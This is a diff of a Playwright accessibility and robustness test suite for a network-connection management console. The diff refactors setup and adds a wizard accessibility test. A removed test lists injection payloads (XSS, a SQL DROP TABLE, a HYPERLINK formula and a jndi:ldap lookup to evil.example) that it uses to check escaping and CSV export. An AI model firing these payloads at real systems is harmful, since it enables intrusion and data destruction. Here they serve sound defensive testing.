@@ -1,38 +1,10 @@
-// Every page as people with other eyes, hands, windows and intentions meet it: axe in light and
-// dark, a phone and a 4K screen, names that were typed to do harm, live updates under a typing
-// hand, and the end of a session.
-import { readFileSync } from 'node:fs'
-import { createRequire } from 'node:module'
-import type { BrowserContext, Page } from 'playwright-core'
+// Every page as people with other eyes, hands and windows meet it: axe in light and in dark, the
+// keyboard alone, a phone and a 4K screen.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { chromiumPath, desktop, fourK, openBrowser, phone } from './support/browser.ts'
-import { deskAt, type Desk } from './support/console.ts'
-import { estate, type Estate } from './support/estate.ts'
-import { blueId, partnerId, servedHouse, until, type ServedHouse } from './support/house.ts'
-
-const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
-
-interface Finding {
-  readonly id: string
-  readonly impact: string
-  readonly nodes: readonly { readonly html: string }[]
-}
-
-/** What axe finds serious or critical on the page as it is. */
-async function findings(page: Page): Promise<readonly string[]> {
-  await page.evaluate(axe)
-  const rules = JSON.stringify({ runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] })
-  const { violations: found } = await page.evaluate<{ readonly violations: readonly Finding[] }>(`axe.run(document, ${rules})`)
-  return found
-    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
-    .map(
-      ({ id, nodes }) =>
-        `${id}: ${nodes
-          .map(({ html }) => html.slice(0, 160))
-          .slice(0, 3)
-          .join(' | ')}`,
-    )
-}
+import { findings } from './support/axe.ts'
+import { chromiumPath, desktop, fourK, phone } from './support/browser.ts'
+import type { Estate } from './support/estate.ts'
+import { scene, type Scene } from './support/scene.ts'
 
 const pagesOf = (made: Estate): readonly string[] => [
   '/inbox',
@@ -71,30 +43,20 @@ const pagesOf = (made: Estate): readonly string[] => [
 ]
 
 describe.skipIf(chromiumPath === undefined)('every page', () => {
-  let house: ServedHouse
-  let made: Estate
-  let browser: { readonly context: BrowserContext } & AsyncDisposable
-  let desk: Desk
-  let page: Page
-
+  let at: Scene
   beforeAll(async () => {
-    house = await servedHouse()
-    made = await estate(house)
-    browser = await openBrowser()
-    desk = await deskAt(house, browser.context)
-    page = desk.page
-    await desk.become('Blue Customer')
+    at = await scene()
   })
   afterAll(async () => {
-    await browser?.[Symbol.asyncDispose]()
-    await house?.[Symbol.asyncDispose]()
+    await at?.[Symbol.asyncDispose]()
   })
 
   const settled = async () => {
-    await page.locator('[class*="awsui_spinner"]').first().waitFor({ state: 'detached' })
+    await at.page.locator('[class*="awsui_spinner"]').first().waitFor({ state: 'detached' })
   }
 
   it('has nothing serious that axe finds, in light and in dark', async () => {
+    const { made, desk, page } = at
     const found: string[] = []
     for (const dark of [false, true]) {
       if (dark) await page.getByRole('button', { name: 'Use dark colours' }).click()
@@ -109,7 +71,38 @@ describe.skipIf(chromiumPath === undefined)('every page', () => {
     expect(found).toEqual([])
   }, 120_000)
 
+  it('has nothing serious on a partner’s pages and in the steps of creating an interface', async () => {
+    const { made, desk, page } = at
+    const found: string[] = []
+    const look = async (name: string) => {
+      await settled()
+      for (const finding of await findings(page)) found.push(`${name} ${finding}`)
+    }
+    await desk.become('Harbor Interconnect')
+    for (const path of ['/interconnects', `/interconnects/${made.interconnectId}`, `/interconnects/${made.interconnectId}?tab=hosted`]) {
+      await desk.go(path)
+      await look(path)
+    }
+    await desk.become('Blue Customer')
+    await desk.go(`/create-virtual-interface?connection=${made.connectionId}`)
+    await page.getByLabel('Virtual interface name', { exact: true }).fill('Looked at')
+    await desk.choose(/^Gateway /, /^Core/)
+    await page.getByRole('button', { name: /^Use \d+/ }).click()
+    await page.getByRole('button', { name: 'Continue' }).click()
+    await page.getByRole('button', { name: 'Continue' }).click()
+    await page.getByText('An ASN is a number such as 65001 or 64086.59904.').waitFor()
+    await look('addresses and BGP, with an error')
+    await page.getByLabel('BGP ASN', { exact: true }).fill('65001')
+    await page.getByRole('button', { name: 'Continue' }).click()
+    await look('additional settings')
+    await page.getByRole('button', { name: 'Continue' }).click()
+    await page.getByText('What will happen').waitFor()
+    await look('review')
+    expect(found).toEqual([])
+  })
+
   it('has dialogs with nothing serious either', async () => {
+    const { made, desk, page } = at
     const found: string[] = []
     const look = async (name: string) => {
       await page.getByRole('dialog').waitFor()
@@ -129,6 +122,7 @@ describe.skipIf(chromiumPath === undefined)('every page', () => {
   })
 
   it('says why an action is not possible now', async () => {
+    const { made, desk, page } = at
     await desk.go(`/virtual-interfaces/${made.privateId}`)
     await page.getByRole('button', { name: 'Actions' }).first().click()
     const accept = page.getByRole('menuitem', { name: 'Accept' })
@@ -139,6 +133,7 @@ describe.skipIf(chromiumPath === undefined)('every page', () => {
   })
 
   it('can be used with the keyboard alone', async () => {
+    const { desk, page } = at
     await desk.go('/virtual-interfaces')
     const link = page.getByRole('link', { name: 'Production north' })
     await link.focus()
@@ -162,6 +157,7 @@ describe.skipIf(chromiumPath === undefined)('every page', () => {
     ['a phone', phone],
     ['a 4K screen', fourK],
   ])('fits %s without scrolling sideways', async (_name, size) => {
+    const { made, desk, page } = at
     await page.setViewportSize(size)
     const wide: string[] = []
     for (const path of [
@@ -182,149 +178,8 @@ describe.skipIf(chromiumPath === undefined)('every page', () => {
     expect(wide).toEqual([])
   })
 
-  it('updates by itself while another client changes things, and keeps what is being typed', async () => {
-    const blue = house.as(blueId)
-    await desk.go('/connections')
-    await page.getByRole('row', { name: /Ashburn north/ }).waitFor()
-    await blue.createConnection({ connectionName: 'Made elsewhere', bandwidth: '1Gbps', location: 'EqDC2' })
-    await page.getByRole('row', { name: /Made elsewhere.*Available/ }).waitFor()
-
-    await desk.go(`/create-virtual-interface?connection=${made.connectionId}`)
-    const name = page.getByLabel('Virtual interface name', { exact: true })
-    const vlan = page.getByLabel('VLAN', { exact: true })
-    await name.fill('Being typed')
-    await vlan.fill('901')
-    await vlan.blur()
-    await name.focus()
-    await blue.createPrivateVirtualInterface({
-      connectionId: made.connectionId,
-      newPrivateVirtualInterface: { virtualInterfaceName: 'Quicker', vlan: 901, asn: 65_009, directConnectGatewayId: made.gatewayId },
-    })
-    // The other's interface shows as a taken VLAN, and nothing that was typed is lost.
-    await page.getByText(/VLAN 901 is taken by Quicker/).waitFor()
-    expect(await name.inputValue()).toBe('Being typed')
-    expect(await page.evaluate('document.activeElement.value')).toBe('Being typed')
-  })
-
-  it('says as code what it shows, and what was just done', async () => {
-    await desk.go(`/connections/${made.connectionId}`)
-    await page.getByRole('button', { name: 'Show as code' }).first().click()
-    await page.getByText(`--connection-id ${made.connectionId}`).first().waitFor()
-    await page.getByRole('tab', { name: 'Terraform' }).click()
-    await page.getByText(`id = "${made.connectionId}"`).first().waitFor()
-    await page.getByRole('button', { name: 'Hide code' }).click()
-    expect(desk.complaints).toEqual([])
-  })
-
-  const hostile = [
-    '<img src=x onerror="globalThis.harmed=1">',
-    '</script><script>globalThis.harmed=1</script>',
-    'javascript:globalThis.harmed=1',
-    '=HYPERLINK("http://evil.example","x")',
-    "'; DROP TABLE connections; --",
-    '\u202Egnp.exe',
-    '${jndi:ldap://evil.example}',
-    `a very long name ${'x'.repeat(80)}`,
-  ]
-
-  it('shows names and tags that were typed to do harm as the text they are', async () => {
-    const blue = house.as(blueId)
-    const places: string[] = []
-    for (const [index, connectionName] of hostile.entries()) {
-      const { connectionId } = await blue.createConnection({
-        connectionName,
-        bandwidth: '1Gbps',
-        location: 'EqDC2',
-        tags: [{ key: `k${index}`, value: 'https://evil.example/=+-@' }],
-      })
-      places.push(`/connections/${connectionId}`)
-    }
-    const { directConnectGateway } = await blue.createDirectConnectGateway({ directConnectGatewayName: hostile[0] })
-    const vi = await blue.createPrivateVirtualInterface({
-      connectionId: made.connectionId,
-      newPrivateVirtualInterface: {
-        virtualInterfaceName: hostile[1],
-        vlan: 999,
-        asn: 65_005,
-        directConnectGatewayId: directConnectGateway?.directConnectGatewayId,
-      },
-    })
-    const handed = await house.as(partnerId).allocateHostedConnection({
-      connectionId: made.interconnectId,
-      ownerAccount: blueId,
-      bandwidth: '50Mbps',
-      connectionName: hostile[0],
-      vlan: 999,
-    })
-    places.push(
-      '/connections',
-      '/virtual-interfaces',
-      `/virtual-interfaces/${vi.virtualInterfaceId}`,
-      `/gateways/${directConnectGateway?.directConnectGatewayId}`,
-      '/gateways',
-      '/inbox',
-      '/topology',
-      `/connections/${handed.connectionId}`,
-      `/connections/${made.connectionId}?tab=vlans`,
-      `/create-virtual-interface`,
-    )
-    for (const path of places) {
-      await desk.go(path)
-      await settled()
-    }
-    await desk.go('/connections')
-    await page
-      .getByRole('link', { name: hostile[0] ?? '', exact: true })
-      .first()
-      .waitFor()
-    expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false)
-    expect(await page.locator('img[src="x"]').count()).toBe(0)
-
-    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save as CSV' }).click()])
-    const csv = readFileSync(await file.path(), 'utf8')
-    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`)
-    expect(csv).not.toMatch(/(^|,)"[=+\-@]/m)
-  })
-
-  it('asks nothing of any other host', async () => {
-    const foreign: string[] = []
-    page.on('request', (request) => {
-      if (!request.url().startsWith(house.sandbox.endpoint) && !request.url().startsWith('blob:')) foreign.push(request.url())
-    })
-    for (const path of ['/topology', '/locations', `/virtual-interfaces/${made.privateId}`]) await desk.go(path)
-    expect(foreign).toEqual([])
-  })
-
   it('gave the browser no reason to complain', () => {
+    const { desk } = at
     expect(desk.complaints).toEqual([])
-  })
-
-  it('ends with signing out, and a session that ended leads to the door with what happened', async () => {
-    await desk.go('/connections')
-    // As if it had expired: the cookie is gone, the page is still open.
-    await browser.context.clearCookies()
-    await house.as(blueId).createConnection({ connectionName: 'After the end', bandwidth: '1Gbps', location: 'EqDC2' })
-    await page.getByText('You are signed out, or your session ended.').waitFor()
-    expect(await findings(page)).toEqual([])
-
-    await page.goto(house.sandbox.newConsoleUrl() ?? '')
-    await page.getByRole('heading', { level: 1, name: 'Connections' }).waitFor()
-    await page.getByRole('button', { name: /^Account / }).click()
-    await page.getByRole('menuitem', { name: 'Sign out' }).click()
-    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
-    await page.reload()
-    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
-    const cookies = await browser.context.cookies()
-    expect(cookies.filter(({ value }) => value !== '')).toEqual([])
-  })
-
-  it('opens a link only once, and says so', async () => {
-    const link = house.sandbox.newConsoleUrl() ?? ''
-    await page.goto(link)
-    await page.getByRole('heading', { level: 1, name: 'Connections' }).waitFor()
-    await browser.context.clearCookies()
-    await page.goto(link)
-    await page.getByText('This link was used already').waitFor()
-    expect(await until('the page is there', async () => page.title())).toContain('Demarc')
   })
 })
